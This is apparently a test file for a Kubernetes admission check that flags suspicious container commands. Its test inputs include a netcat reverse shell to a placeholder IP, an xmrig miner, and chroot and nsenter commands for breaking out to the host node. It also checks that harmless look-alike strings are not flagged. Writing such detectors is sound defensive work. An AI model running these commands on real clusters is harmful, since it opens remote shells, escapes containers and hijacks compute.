import assert from 'node:assert/strict'
import { test } from 'node:test'
import { outcomeOf, pod } from '../harness.ts'
import { suspiciousCommand } from './check.ts'

const message = (command: string[], spec = {}) =>
  outcomeOf(suspiciousCommand, pod({ ...spec, containers: [{ command }] }))?.violations[0]?.message

test('what is done decides the message', () => {
  assert.equal(message(['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444']), 'default')
  assert.equal(message(['/opt/xmrig']), 'miner')
  assert.equal(message(['sh', '-c', 'chroot /host bash']), 'node')
  assert.equal(message(['chroot', '/host', 'bash']), 'node')
})

test('nsenter without the processes of the node leads nowhere', () => {
  assert.equal(message(['nsenter', '-t', '1']), undefined)
  assert.equal(message(['nsenter', '-t', '1'], { hostPID: true }), 'node')
})

test('words that look alike are left alone', () => {
  for (const command of [['sync -e'], ['rsync'], ['my-xmrig-exporter'], ['chroot', '/app']])
    assert.equal(message(command), undefined, command.join(' '))
})
